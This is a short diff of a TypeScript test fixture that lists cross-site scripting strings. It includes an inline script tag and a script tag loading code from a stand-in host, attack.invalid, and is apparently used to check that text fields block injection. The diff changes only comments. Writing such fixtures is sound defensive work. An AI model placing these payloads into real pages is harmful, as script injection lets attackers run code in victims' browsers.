@@ -1,12 +1,12 @@
-/** What each attack tries to do when a text runs: tests look for it in the page. */
+/** The mark that an attack leaves when it runs. Tests look for it in the page. */
 export const attackMark = 'kogu-attacked';
-/** Where each attack tries to fetch from: tests refuse and count what goes there. */
+/** The host that attacks try to fetch from. Tests block and count such requests. */
 export const attackHost = 'attack.invalid';
 
 const run = `document.documentElement.dataset.attacked='${attackMark}'`;
 const url = `https://${attackHost}/x`;
 
-/** Texts that would run or fetch something if any field that takes text let them. */
+/** Texts that would run or fetch something if a text field let them through. */
 export const attacks: readonly string[] = [
   `<script>${run}</script>`,
   `<script src="${url}.js"></script>`,
